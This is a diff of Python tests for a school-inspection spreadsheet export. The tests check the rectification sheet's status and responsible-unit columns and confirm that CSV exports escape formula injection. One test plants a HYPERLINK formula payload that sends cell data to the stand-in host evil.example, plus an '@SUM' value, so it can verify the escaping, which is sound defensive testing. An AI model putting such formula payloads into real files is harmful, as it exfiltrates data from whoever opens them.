@@ -67,7 +67,11 @@ def test_xlsx_holds_the_schools_items_findings_and_rectifications(client, auth, 
     problems = {row[10] for row in findings[1:]}
     assert {f["problem"] for r in term_results for f in r["findings"]} == problems
     rect = list(wb["整改情况"].values)
-    assert rect[0][11] == "状态" and {row[11] for row in rect[1:]} == {"待整改"}
+    status, unit = rect[0].index("状态"), rect[0].index("责任单位")
+    assert {row[status] for row in rect[1:]} == {"待整改"}
+    # Each item names who must fix it: the school, or the county unit the checklist assigns.
+    assert {row[unit] for row in rect[1:]} >= {"学校"} and all(row[unit] for row in rect[1:])
+    assert findings[0].index("责任单位") == findings[0].index("整改措施") + 1
 
 
 def test_rows_come_by_school_and_date_items_in_checklist_order(client, auth, received):
@@ -167,6 +171,7 @@ def test_text_that_a_spreadsheet_would_run_is_escaped_in_csv(client, auth, db, r
     """OWASP CSV injection: =, +, -, @, tab and CR at the start of a cell get a leading quote."""
     typed = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
     db.execute("UPDATE rectifications SET problem = ?, action = ?", [typed, "@SUM(1+1)"])
+    db.execute("UPDATE rectification_findings SET problem = ?", [typed])  # as each visit found it
     auth.login("bureau")
     response = _export(client, "zip", {**TERM, "checklist": "fupin_comprehensive"})
     archive = zipfile.ZipFile(io.BytesIO(response.data))
